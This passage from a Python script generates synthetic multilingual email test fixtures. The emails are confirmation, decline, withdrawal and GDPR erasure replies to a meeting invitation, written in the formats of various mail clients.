 (10.0.0.14) with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2375.24; {d}
From: "Vogel, Katrin" <k.vogel@bewaehrungshilfe.example.net>
To: Working group contact <contact@callflow.example.org>
Subject: AW: {INV_SUBJECT}
Thread-Topic: {INV_SUBJECT}
Thread-Index: AQHYN4GqkJ3Hk4uNzU6S2l0b1Jv2LKy+9Y0g
Date: {d}
Message-ID: <b2e7c0d941a84f6c9d31e5f07a2b8c14@EXMBX01.bewaehrungshilfe.local>
References: {cf_msgid("invite", "katrin")}
In-Reply-To: {cf_msgid("invite", "katrin")}
Accept-Language: de-DE, en-US
Content-Language: de-DE
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-exchange-transport-fromentityheader: Hosted
x-originating-ip: [10.0.8.57]
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp(plain)}""")
    add("confirm-de-exchange-ja-ich-nehme-teil.eml", "applicant_message", "confirm", True,
        "k.vogel@bewaehrungshilfe.example.net", "", "German 'ja, ich nehme teil'; AW: prefix; Von:/Gesendet: quote",
        raw, crlf=True)

    # --- Thunderbird French: "Je confirme"
    d = "Mon, 14 Mar 2022 15:12:36 +0100"
    raw = (envelope("camille.dubois@spip.example.org", d, "smtp.spip.example.org", "203.0.113.31") + f"""Message-ID: <e8a1b7c2-5d0f-4e9a-83b6-1c2d4f7a9e05@spip.example.org>
Date: {d}
MIME-Version: 1.0
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101
 Thunderbird/91.6.2
Subject: Re: {INV_SUBJECT}
Content-Language: fr
To: Working group contact <contact@callflow.example.org>
References: {cf_msgid("invite", "camille")}
From: Camille Dubois <camille.dubois@spip.example.org>
In-Reply-To: {cf_msgid("invite", "camille")}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Bonjour,

Je confirme ma participation aux deux demi-journées. Merci beaucoup pour 
l'invitation.

Camille

Le 14/03/2022 à 10:02, Working group contact a écrit :
{quote(invitation_text("Camille Dubois"))}
""")
    add("confirm-fr-thunderbird-je-confirme.eml", "applicant_message", "confirm", True,
        "camille.dubois@spip.example.org", "", "French 'je confirme'; French quote attribution", raw)

    # --- Apple Mail Dutch: "Ik bevestig"
    d = "Mon, 14 Mar 2022 16:03:09 +0100"
    raw = (envelope("joost.devries@reclassering.example.net", d, "smtp.reclassering.example.net", "198.51.100.77")
           + f"""From: Joost de Vries <joost.devries@reclassering.example.net>
Content-Type: text/plain;
	charset=us-ascii
Content-Transfer-Encoding: 7bit
Mime-Version: 1.0 (Mac OS X Mail 15.0 \\(3693.60.0.1.1\\))
Subject: Re: {INV_SUBJECT}
Date: {d}
References: {cf_msgid("invite", "joost")}
To: Working group contact <contact@callflow.example.org>
In-Reply-To: {cf_msgid("invite", "joost")}
Message-Id: <1D3E5F70-8A9B-4C2D-9E0F-A1B2C3D4E5F6@reclassering.example.net>
X-Mailer: Apple Mail (2.3693.60.0.1.1)

Ik bevestig mijn deelname op 24 en 25 maart.

Groet,
Joost

> Op 14 mrt. 2022, om 10:02 heeft Working group contact <contact@callflow.example.org> het volgende geschreven:
>
{quote(invitation_text("Joost de Vries"))}
""")
    add("confirm-nl-applemail-ik-bevestig.eml", "applicant_message", "confirm", True,
        "joost.devries@reclassering.example.net", "", "Dutch 'ik bevestig'; Dutch attribution line", raw)

    # --- Gmail: "count me in" with invitation in gmail_quote
    d = "Tue, 15 Mar 2022 09:14:27 +0100"
    text = "Great, thank you \u2013 count me in for both afternoons. Looking forward to it!\n\nLena"
    attr = "Am Mo., 14. März 2022 um 10:02 Uhr schrieb Working group contact <contact@callflow.example.org>:"
    inv = invitation_text("Lena Hoffmann")
    hops, host = gmail_hops("c6", "mail.example.com", d, "lena")
    raw = (envelope("lena.hoffmann.privat@mail.example.com", d, host, "209.85.221.44",
                    auth=auth_pass("mail.example.com", "c6")) + hops + f"""MIME-Version: 1.0
References: {cf_msgid("invite", "lena")}
In-Reply-To: {cf_msgid("invite", "lena")}
From: Lena Hoffmann <lena.hoffmann.privat@mail.example.com>
Date: {d}
Message-ID: <CAJx0bF2vW9_kQ8mZr4sT1hY7pLc3dN6eU0aX5oRi2GqJfB8wKg@mail.gmail.example.com>
Subject: Re: {INV_SUBJECT}
To: Working group contact <contact@callflow.example.org>
Content-Type: multipart/alternative; boundary="00000000000093bc0d05da3c7e11"

--00000000000093bc0d05da3c7e11
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(text + chr(10) + chr(10) + attr + chr(10) + chr(10) + quote(inv) + chr(10))}
--00000000000093bc0d05da3c7e11
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(gmail_html(text, (attr, inv)))}
--00000000000093bc0d05da3c7e11--
""")
    add("confirm-en-gmail-count-me-in.eml", "applicant_message", "confirm", True,
        "lena.hoffmann.privat@mail.example.com", "",
        "'count me in' without the word confirm; German Gmail attribution; sent from a private address "
        "(the survey had lena.hoffmann@bewaehrungshilfe.example.net) - matching needs In-Reply-To", raw, crlf=True)

    # --- S/MIME signed (multipart/signed), Outlook
    d = "Tue, 15 Mar 2022 11:20:00 +0100"
    inner = """Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

""" + qp("Dear colleagues,\n\nhereby I confirm that I will attend the meeting on 24 and 25 March.\n\nBest regards\nTomáš Novák\nProbační a mediační služba Example\n")
    sig = b"\x30\x82\x0b\x4e\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0" + stream("smime", 2880)
    raw = (envelope("tomas.novak@probacni.example.com", d, "mx.probacni.example.com", "198.51.100.60")
           + f"""From: =?utf-8?B?VG9tw6HFoSBOb3bDoWs=?= <tomas.novak@probacni.example.com>
To: Working group contact <contact@callflow.example.org>
Subject: RE: {INV_SUBJECT}
Thread-Topic: {INV_SUBJECT}
Thread-Index: AQHYN4GqnT0m0w5BTkO4u3sYyq7vaqy/Wh7A
Date: {d}
Message-ID: <0c9e4a7b1d2f4e8c@mx.probacni.example.com>
References: {cf_msgid("invite", "tomas")}
In-Reply-To: {cf_msgid("invite", "tomas")}
Accept-Language: cs-CZ, en-US
Content-Language: cs-CZ
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
Content-Type: multipart/signed; protocol="application/x-pkcs7-signature";
	micalg=SHA1; boundary="----=_NextPart_000_0045_01D8384A.6F3B1E20"
MIME-Version: 1.0

This is a multipart message in MIME format.

------=_NextPart_000_0045_01D8384A.6F3B1E20
{inner}
------=_NextPart_000_0045_01D8384A.6F3B1E20
Content-Type: application/x-pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"

{b64(sig)}
------=_NextPart_000_0045_01D8384A.6F3B1E20--
""")
    add("confirm-en-smime-signed.eml", "applicant_message", "confirm", True, "tomas.novak@probacni.example.com", "",
        "S/MIME multipart/signed; text is inside the signed part", raw, crlf=True)

    # --- Roundcube Italian reply
    d = "Tue, 15 Mar 2022 17:45:30 +0100"
    raw = (envelope("g.bianchi@cooperativa.example.org", d, "webmail.cooperativa.example.org", "203.0.113.150")
           + f"""MIME-Version: 1.0
Date: {d}
From: Giulia Bianchi <g.bianchi@cooperativa.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: Re: {INV_SUBJECT}
In-Reply-To: {cf_msgid("invite", "giulia")}
References: {cf_msgid("invite", "giulia")}
Message-ID: <a71e0c4b9d2f3e58b6c1d0e7f9a2b3c4@cooperativa.example.org>
X-Sender: g.bianchi@cooperativa.example.org
User-Agent: Roundcube Webmail/1.5.2
Content-Type: text/plain; charset=UTF-8;
 format=flowed
Content-Transfer-Encoding: 8bit

Buonasera,

confermo la mia partecipazione. Grazie!

Giulia

Il 14/03/2022 10:02 Working group contact ha scritto:
{quote(invitation_text("Giulia Bianchi"))}
""")
    add("confirm-it-roundcube.eml", "applicant_message", "confirm", True, "g.bianchi@cooperativa.example.org", "",
        "Italian 'confermo la mia partecipazione'", raw)


# =========================================================================== applicant: decline
def decline_messages():
    d = "Wed, 16 Mar 2022 08:12:55 +0000"
    text = """Dear organisers,

I'm very sorry, but I cannot attend after all - a court hearing has been
scheduled for 24 March and I have to be there. Please give my place to
someone else.

With apologies,
Rachel Okafor"""
    hops, host = gmail_hops("d1", "mail.example.com", d, "rachel")
    raw = (envelope("r.okafor@mail.example.com", d, host, "209.85.167.52", auth=auth_pass("mail.example.com", "d1"))
           + hops + f"""MIME-Version: 1.0
References: {cf_msgid("invite", "rachel")}
In-Reply-To: {cf_msgid("invite", "rachel")}
From: Rachel Okafor <r.okafor@mail.example.com>
Date: {d}
Message-ID: <CAHb7s2f+Q0pR9xvN3mK8tW1zE5cYjL6aU4dG0oB7iFnVhS2rTw@mail.gmail.example.com>
Subject: Re: {INV_SUBJECT}
To: Working group contact <contact@callflow.example.org>
Content-Type: multipart/alternative; boundary="000000000000c2f8a105da4b3d02"

--000000000000c2f8a105da4b3d02
Content-Type: text/plain; charset="UTF-8"

{text}

On Mon, 14 Mar 2022 at 09:02, Working group contact <contact@callflow.example.org> wrote:

{quote(invitation_text("Rachel Okafor"))}

--000000000000c2f8a105da4b3d02
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(gmail_html(text, ("On Mon, 14 Mar 2022 at 09:02, Working group contact <contact@callflow.example.org> wrote:", invitation_text("Rachel Okafor"))))}
--000000000000c2f8a105da4b3d02--
""")
    add("decline-en-gmail-cannot-attend-after-all.eml", "applicant_message", "decline", True,
        "r.okafor@mail.example.com", "", "'I cannot attend after all'; quoted invitation has 'confirm'", raw, crlf=True)

    d = "Wed, 16 Mar 2022 10:30:12 +0100"
    raw = (envelope("m.yilmaz@gmx.example.net", d, "mout.gmx.example.net", "212.227.15.19") + f"""MIME-Version: 1.0
Message-ID: <trinity-5e2a9c10-4b7d-4c3e-a1f8-09d6e7b2c4f5-1646992212004@3c-app-gmx-bap41>
From: "Mehmet Yilmaz" <m.yilmaz@gmx.example.net>
To: "Working group contact" <contact@callflow.example.org>
Subject: Aw: {INV_SUBJECT}
Content-Type: text/plain; charset=UTF-8
Date: {d}
Importance: normal
Sensitivity: Normal
In-Reply-To: {cf_msgid("invite", "mehmet")}
References: {cf_msgid("invite", "mehmet")}
Content-Transfer-Encoding: quoted-printable
X-Priority: 3
X-UI-Message-Type: mail

{qp('''Sehr geehrte Damen und Herren,

leider kann ich nicht teilnehmen, da ich an beiden Tagen auf einer Fortbildung bin. Vielen Dank trotzdem für die Einladung!

Mit freundlichen Grüßen
Mehmet Yilmaz

Gesendet: Montag, 14. März 2022 um 10:02 Uhr
Von: "Working group contact" <contact@callflow.example.org>
An: m.yilmaz@gmx.example.net
Betreff: ''' + INV_SUBJECT + chr(10) + invitation_text("Mehmet Yilmaz") + chr(10))}""")
    add("decline-de-webmail-leider-nicht.eml", "applicant_message", "decline", True, "m.yilmaz@gmx.example.net", "",
        "German 'leider kann ich nicht teilnehmen'; GMX-style unprefixed quote with 'Please confirm'", raw)

    d = "Wed, 16 Mar 2022 14:02:19 +0100 (CET)"
    body = ("Bonjour,\n\nMalheureusement, je ne pourrai pas participer à la réunion des 24 et 25 mars : "
            "une formation obligatoire a été programmée aux mêmes dates.\n\nCordialement,\nÉlodie Lefèvre\n")
    raw = (envelope("elodie.lefevre@orange.example.net", d.replace(" (CET)", ""), "smtp-out.orange.example.net",
                    "80.12.242.132") + f"""Date: {d}
From: =?UTF-8?Q?=C3=89lodie_Lef=C3=A8vre?= <elodie.lefevre@orange.example.net>
To: Working group contact <contact@callflow.example.org>
Message-ID: <1783225091.54013.1647435739220.JavaMail.open-xchange@opme11oxm23aub.bagnolet.orange.example.net>
In-Reply-To: {cf_msgid("invite", "elodie")}
References: {cf_msgid("invite", "elodie")}
Subject: =?UTF-8?Q?RE=C2=A0:_Invitation:_Working_group_meeting,_24-25_March_2022_(WebEx)?=
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable
X-Priority: 3
Importance: Normal
X-Mailer: Open-Xchange Mailer v7.10.5-Rev26

{qp(body)}""")
    add("decline-fr-openxchange.eml", "applicant_message", "decline", True, "elodie.lefevre@orange.example.net", "",
        "French 'je ne pourrai pas participer'; 'RE\u00a0:' prefix with no-break space", raw)

    d = "Wed, 16 Mar 2022 15:45:03 +0000"
    inv = invitation_text("Ingrid Solberg")
    own = ["Dear Working group contact,", "",
           "Thank you for the invitation. Unfortunately I will not be able to attend on 24-25 March because of staff "
           "shortages in our unit. I hope there will be another opportunity later this year.", "",
           "Best regards", "Ingrid Solberg"]
    qhdr = [("From", "Working group contact <contact@callflow.example.org>"), ("Sent", "14 March 2022 10:02"),
            ("To", "Ingrid Solberg <ingrid.solberg@kriminalomsorg.example.org>"), ("Subject", INV_SUBJECT)]
    plain = "\n".join(own) + "\n\n" + "\n".join(f"{k}: {v}" for k, v in qhdr) + "\n\n" + inv + "\n"
    raw = (envelope("ingrid.solberg@kriminalomsorg.example.org", d, "EUR05-AM6-obe.outbound.protection.outlook.example.com",
                    "40.107.22.75") + f"""From: Ingrid Solberg <ingrid.solberg@kriminalomsorg.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: SV: {INV_SUBJECT}
""" + outlook_headers(INV_SUBJECT, "d4", "nb-NO, en-US", "en-US") + f"""Date: {d}
Message-ID: {outlook_msgid("d4")}
References: {cf_msgid("invite", "ingrid")}
In-Reply-To: {cf_msgid("invite", "ingrid")}
Content-Type: multipart/alternative;
	boundary="_000_DB9PR05MB73214E0A1B2C3D4E5F60718293A4BDB9PR05MB7321eurp_"
MIME-Version: 1.0

--_000_DB9PR05MB73214E0A1B2C3D4E5F60718293A4BDB9PR05MB7321eurp_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(plain)}
--_000_DB9PR05MB73214E0A1B2C3D4E5F60718293A4BDB9PR05MB7321eurp_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(outlook_html(mso(own) + chr(10) + outlook_quote_html(qhdr, inv)))}
--_000_DB9PR05MB73214E0A1B2C3D4E5F60718293A4BDB9PR05MB7321eurp_--
""")
    add("decline-en-outlook-will-not-be-able.eml", "applicant_message", "decline", True,
        "ingrid.solberg@kriminalomsorg.example.org", "", "'will not be able to attend'; Norwegian 'SV:' prefix",
        raw, crlf=True)

    d = "Thu, 17 Mar 2022 09:05:44 +0000"
    raw = (envelope("s.bakker@gemeente.example.org", d, "EUR02-HE1-obe.outbound.protection.outlook.example.com",
                    "40.107.1.103") + f"""From: Sanne Bakker <s.bakker@gemeente.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: RE: {INV_SUBJECT}
""" + outlook_headers(INV_SUBJECT, "d5", "nl-NL, en-US", "nl-NL") + f"""Date: {d}
Message-ID: {outlook_msgid("d5")}
In-Reply-To: {cf_msgid("invite", "sanne")}
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp('''Beste,

Helaas kan ik er op 24 en 25 maart niet bij zijn; er is een crisisoverleg gepland dat ik niet kan verzetten. Geef mijn plek gerust aan iemand anders.

Met vriendelijke groet,
Sanne Bakker

-----Oorspronkelijk bericht-----
Van: Working group contact <contact@callflow.example.org>
Verzonden: maandag 14 maart 2022 10:02
Aan: Sanne Bakker <s.bakker@gemeente.example.org>
Onderwerp: ''' + INV_SUBJECT + chr(10) + chr(10) + invitation_text("Sanne Bakker") + chr(10), "iso-8859-1")}""")
    add("decline-nl-outlook-helaas.eml", "applicant_message", "decline", True, "s.bakker@gemeente.example.org", "",
        "Dutch 'helaas kan ik er niet bij zijn'; '-----Oorspronkelijk bericht-----' quote", raw, crlf=True)

    d = "Thu, 17 Mar 2022 11:38:09 +0000 (UTC)"
    raw = (envelope("lfernandez@correo.example.com", d.replace(" (UTC)", ""), "sonic305-3.consmr.mail.ne1.correo.example.com",
                    "66.163.186.150") + f"""Date: {d}
From: =?UTF-8?Q?Luc=C3=ADa_Fern=C3=A1ndez?= <lfernandez@correo.example.com>
To: Working group contact <contact@callflow.example.org>
Message-ID: <2041187634.3310250.1647517089355@mail.correo.example.com>
In-Reply-To: {cf_msgid("invite", "lucia")}
References: {cf_msgid("invite", "lucia")}
Subject: Re: {INV_SUBJECT}
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: base64
X-Mailer: WebService/1.1.19894 YMailNorrin

{b64('''Hola:

Lamentablemente no podré asistir a la reunión. Muchas gracias por la invitación y disculpen las molestias.

Un saludo,
Lucía

    En lunes, 14 de marzo de 2022, 10:02:11 CET, Working group contact <contact@callflow.example.org> escribió:

''' + quote(invitation_text("Lucía Fernández")) + chr(10))}""")
    add("decline-es-yahoo-base64.eml", "applicant_message", "decline", True, "lfernandez@correo.example.com", "",
        "Spanish 'no podré asistir'; base64 text body", raw)


# =========================================================================== applicant: withdraw
def withdraw_messages():
    d = "Tue, 8 Mar 2022 16:20:31 +0200"
    raw = (envelope("hanna.virtanen@example.net", d, "smtp.example.net", "192.0.2.230") + f"""Received: from [192.168.10.5] (dsl-hkibng21-58c1a2-77.dhcp.example.net [88.193.162.77])
	by smtp.example.net (Postfix) with ESMTPSA id 41C2B200DA
	for <contact@callflow.example.org>; {d}
Message-ID: <4b0d7e2a-9c1f-4a3e-b85d-6f0e2c9a1b73@example.net>
Date: {d}
MIME-Version: 1.0
User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:91.0)
 Gecko/20100101 Thunderbird/91.6.1
Content-Language: en-US
To: contact@callflow.example.org
From: Hanna Virtanen <hanna.virtanen@example.net>
Subject: Withdrawal
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Hello,

please withdraw my application for the working group meeting - I have 
changed jobs and no longer work in the field.

Thank you and good luck with the meeting,
Hanna Virtanen
""")
    add("withdraw-en-thunderbird.eml", "applicant_message", "withdraw", True, "hanna.virtanen@example.net", "",
        "'please withdraw my application'", raw)

    d = "Wed, 9 Mar 2022 07:55:00 +0100"
    html = ('<html><body><font size="2" face="sans-serif">Sehr geehrte Damen und Herren,</font><br><br>'
            '<font size="2" face="sans-serif">hiermit ziehe ich meine Bewerbung f&uuml;r das '
            'Arbeitsgruppentreffen am 24./25. M&auml;rz zur&uuml;ck. Aus dienstlichen Gr&uuml;nden ist eine '
            'Teilnahme leider nicht m&ouml;glich.</font><br><br><font size="2" face="sans-serif">Mit freundlichen '
            'Gr&uuml;&szlig;en<br>Stefan Brandt<br>Polizeipr&auml;sidium Example - Pr&auml;vention</font><br></body></html>')
    plain = ("Sehr geehrte Damen und Herren,\n\nhiermit ziehe ich meine Bewerbung für das Arbeitsgruppentreffen am "
             "24./25. März zurück. Aus dienstlichen Gründen ist eine Teilnahme leider nicht möglich.\n\n"
             "Mit freundlichen Grüßen\nStefan Brandt\nPolizeipräsidium Example - Prävention\n")
    raw = (envelope("s.brandt@polizei.example.com", d, "gw.polizei.example.com", "198.51.100.5") + f"""Received: from notes01.polizei.example.com ([10.2.1.10])
	by gw.polizei.example.com with ESMTP id 229H5Qf7021334
	for <contact@callflow.example.org>; {d}
MIME-Version: 1.0
Subject: =?ISO-8859-1?Q?R=FCckzug_meiner_Bewerbung?=
To: contact@callflow.example.org
X-Mailer: IBM Notes Release 9.0.1FP10 HF383 November 22, 2018
Message-ID: <OF7C2A1B3D.4E5F6071-ONC1258800.00241A2B-C1258800.0024B9C7@polizei.example.com>
From: Stefan Brandt <s.brandt@polizei.example.com>
Date: {d}
X-MIMETrack: Serialize by Router on NOTES01/POLIZEI(Release 9.0.1FP10HF383 | November 22, 2018) at
 09.03.2022 07:55:00,
	Serialize complete at 09.03.2022 07:55:00
Content-Type: multipart/alternative; boundary="=_alternative 0024B9C6C1258800_="

--=_alternative 0024B9C6C1258800_=
Content-Type: text/plain; charset="ISO-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(plain, "iso-8859-1")}
--=_alternative 0024B9C6C1258800_=
Content-Type: text/html; charset="ISO-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(html, "iso-8859-1")}
--=_alternative 0024B9C6C1258800_=--
""")
    add("withdraw-de-lotus-notes.eml", "applicant_message", "withdraw", True, "s.brandt@polizei.example.com", "",
        "German 'ziehe ich meine Bewerbung zurück'; Lotus Notes; boundary with spaces", raw, crlf=True)

    d = "Wed, 9 Mar 2022 18:02:47 +0100"
    raw = (envelope("julien.moreau@asso.example.org", d, "mail.asso.example.org", "203.0.113.120") + f"""Date: {d}
From: Julien Moreau <julien.moreau@asso.example.org>
To: contact@callflow.example.org
Subject: Candidature - retrait
Message-ID: <YijdN0c1k9mT3pQb@asso.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Disposition: inline
Content-Transfer-Encoding: 8bit
User-Agent: Mutt/2.2.1 (2022-02-19)

-----BEGIN PGP SIGNED MESSAGE-----
Hash: SHA256

Bonjour,

je retire ma candidature pour la réunion des 24 et 25 mars ; un collègue
de l'association postulera à ma place.

Merci et bonne continuation,
Julien Moreau
-----BEGIN PGP SIGNATURE-----

iQIzBAEBCAAdFiEE{fake_b64("pgp1", 48)}
{fold(fake_b64("pgp2", 640), 64, chr(10))}
=Q4xd
-----END PGP SIGNATURE-----
""")
    add("withdraw-fr-mutt-pgp-inline.eml", "applicant_message", "withdraw", True, "julien.moreau@asso.example.org", "",
        "French 'je retire ma candidature'; inline PGP signature", raw)

    d = "Thu, 10 Mar 2022 12:41:16 +0000"
    raw = (envelope("oliver.grant@example.com", d, "EUR04-HE1-obe.outbound.protection.outlook.example.com", "40.92.73.90")
           + """From: Oliver Grant <oliver.grant@example.com>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Subject: Cancel my registration
""" + outlook_headers("Cancel my registration", "w4") + f"""Date: {d}
Message-ID: {outlook_msgid("w4")}
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp('''Hi,

I'd like to cancel my registration for the working group meeting, my situation has changed. Sorry for the inconvenience.

Oliver

Get Outlook for Android<https://aka.example.com/AAb9ysg>
''')}""")
    add("withdraw-en-cancel-registration.eml", "applicant_message", "withdraw", True, "oliver.grant@example.com", "",
        "'cancel my registration' = withdraw (not erasure: no data request)", raw, crlf=True)

    d = "Fri, 11 Mar 2022 10:10:10 +0100"
    raw = (envelope("jmorales@instituciones.example.com", d, "correo.instituciones.example.com", "198.51.100.180")
           + f"""From: Javier Morales Ruiz <jmorales@instituciones.example.com>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Subject: Retiro de solicitud
Date: {d}
Message-ID: <9e3b5d2a0c1f4a7e8b6d3c2f1e0a9b8c@EXCH02.instituciones.local>
Accept-Language: es-ES, en-US
Content-Language: es-ES
X-MS-Has-Attach:
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{b64('Buenos días:' + chr(10) + chr(10) + 'Por motivos personales, retiro mi solicitud para participar en la reunión del grupo de trabajo.' + chr(10) + chr(10) + 'Saludos,' + chr(10) + 'Javier Morales' + chr(10))}""")
    add("withdraw-es-exchange.eml", "applicant_message", "withdraw", True, "jmorales@instituciones.example.com", "",
        "Spanish 'retiro mi solicitud'", raw, crlf=True)


# =========================================================================== applicant: erasure
def erasure_messages():
    d = "Thu, 10 Mar 2022 20:12:09 +0000"
    raw = (envelope("oliver.grant@example.com", d, "EUR04-HE1-obe.outbound.protection.outlook.example.com", "40.92.73.91")
           + f"""From: Oliver Grant <oliver.grant@example.com>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Subject: Data
Date: {d}
Message-ID: {outlook_msgid("e1")}
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0

Hello, please delete my data from your records. I filled in the survey but I have decided not to pursue this. Thank you.

Oliver
""")
    add("erasure-en-please-delete-my-data.eml", "applicant_message", "erasure", True, "oliver.grant@example.com", "",
        "'please delete my data' (erasure implies withdrawal)", raw, crlf=True)

    d = "Fri, 11 Mar 2022 08:00:03 +0100"
    body = """Dear Sir or Madam,

Pursuant to Article 17 of the General Data Protection Regulation (EU) 2016/679
(GDPR), I request the erasure without undue delay of all personal data
concerning me that you have collected in connection with the call for
participants for the working group meeting of 24-25 March 2022, including the
survey response I submitted on 4 March 2022.

Please confirm the erasure in writing within one month of receipt of this
request (Art. 12(3) GDPR). Should you refuse, please state the reasons.

Name: Nikos Papadakis
E-mail: n.papadakis@ministry.example.com

Yours faithfully,
Nikos Papadakis
"""
    raw = (envelope("n.papadakis@ministry.example.com", d, "mail-he1eur02.outbound.ministry.example.com", "40.107.1.92")
           + f"""From: Nikos Papadakis <n.papadakis@ministry.example.com>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Subject: Request for erasure pursuant to Art. 17 GDPR
Thread-Topic: Request for erasure pursuant to Art. 17 GDPR
Date: {d}
Message-ID: <8A1C3E5F-7B9D-4F0A-B2C4-D6E8F0A1B3C5@ministry.example.com>
Accept-Language: el-GR, en-US
Content-Language: en-US
user-agent: Microsoft-MacOutlook/16.58.22021501
Content-Type: text/plain; charset="us-ascii"
Content-ID: <6D1E0B4A2C9F3E47B5A8D0C7E1F2A3B4@eurprd02.prod.outlook.example.com>
Content-Transfer-Encoding: 7bit
MIME-Version: 1.0
Disposition-Notification-To: Nikos Papadakis <n.papadakis@ministry.example.com>

{body}""")
    add("erasure-en-gdpr-art17.eml", "applicant_message", "erasure", True, "n.papadakis@ministry.example.com", "",
        "formal Art. 17 GDPR request; contains 'confirm' and an E-mail: line (not a survey); asks for a read receipt",
        raw, crlf=True)

    d = "Sat, 12 Mar 2022 23:40:51 +0100"
    raw = (envelope("kdoyle@mail.example.net", d, "mout.mail.example.net", "192.0.2.18") + f"""Received: from [10.201.7.12] ([46.7.113.201]) by mail.example.net
 with ESMTPSA (Nemesis) id 1MwQCb-1o0Z4k2Yf5-00sK9q for
 <contact@callflow.example.org>; {d}
Date: {d}
Message-ID: <o9v1mx.r8z2k4f7c1qe@email.android.example.net>
Subject: Unsubscribe
From: kdoyle@mail.example.net
To: contact@callflow.example.org
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

unsubscribe me

Sent from my Galaxy
""")
    add("erasure-en-unsubscribe-me.eml", "applicant_message", "erasure", True, "kdoyle@mail.example.net", "",
        "a person writing 'unsubscribe me' (not list mail): treated as erasure; no display name", raw)

    d = "Mon, 14 Mar 2022 09:17:38 +0100"
    raw = (envelope("k.weber@web.example.net", d, "mout.web.example.net", "217.72.192.78") + f"""Received: from [79.244.12.3] ([79.244.12.3]) by web-mail.web.example.net
 (3c-app-webde-bs21.server.lan [172.19.170.21]) (via HTTP); {d}
MIME-Version: 1.0
Message-ID: <trinity-7a1c3e5b-2d4f-4a6b-8c0d-1e3f5a7b9c2d-1647245858119@3c-app-webde-bs21>
From: "Katharina Weber" <k.weber@web.example.net>
To: contact@callflow.example.org
Subject: Datenschutz: Bitte Daten =?UTF-8?Q?l=C3=B6schen?=
Content-Type: text/html; charset=UTF-8
Date: {d}
Importance: normal
Sensitivity: Normal
Content-Transfer-Encoding: quoted-printable
X-UI-Message-Type: mail
X-Priority: 3

{qp('<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>Guten Tag,</div><div>&nbsp;</div><div>bitte l&ouml;schen Sie meine Daten, die ich im Rahmen der Umfrage angegeben habe. Ich m&ouml;chte nicht mehr kontaktiert werden.</div><div>&nbsp;</div><div>Mit freundlichen Gr&uuml;&szlig;en</div><div>Katharina Weber</div></div></body></html>')}
""")
    add("erasure-de-webmail-html.eml", "applicant_message", "erasure", True, "k.weber@web.example.net", "",
        "German 'bitte löschen Sie meine Daten'; HTML only with entities", raw, crlf=True)

    d = "Mon, 14 Mar 2022 14:25:00 +0100"
    raw = (envelope("nadia.benali@example.org", d, "smtp.example.org", "192.0.2.45") + f"""From: Nadia Benali <nadia.benali@example.org>
Content-Type: multipart/alternative;
	boundary="Apple-Mail=_4C5D6E7F-8091-4A2B-B3C4-D5E6F708192A"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3696.80.82.1.1\\))
Subject: =?utf-8?Q?Suppression_de_mes_donn=C3=A9es?=
Message-Id: <5E6F7081-92A3-4B4C-8D5E-6F708192A3B4@example.org>
Date: {d}
To: contact@callflow.example.org
X-Mailer: Apple Mail (2.3696.80.82.1.1)


--Apple-Mail=_4C5D6E7F-8091-4A2B-B3C4-D5E6F708192A
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
	charset=utf-8

{qp('''Bonjour,

Je ne souhaite plus participer. Supprimez mes données s'il vous plaît, y compris ma réponse au questionnaire.

Nadia Benali
''')}
--Apple-Mail=_4C5D6E7F-8091-4A2B-B3C4-D5E6F708192A
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
	charset=utf-8

{qp('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="word-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;" class="">Bonjour,<div class=""><br class=""></div><div class="">Je ne souhaite plus participer. Supprimez mes données s&#39;il vous plaît, y compris ma réponse au questionnaire.</div><div class=""><br class=""></div><div class="">Nadia Benali</div></body></html>')}
--Apple-Mail=_4C5D6E7F-8091-4A2B-B3C4-D5E6F708192A--
""")
    add("erasure-fr-applemail.eml", "applicant_message", "erasure", True, "nadia.benali@example.org", "",
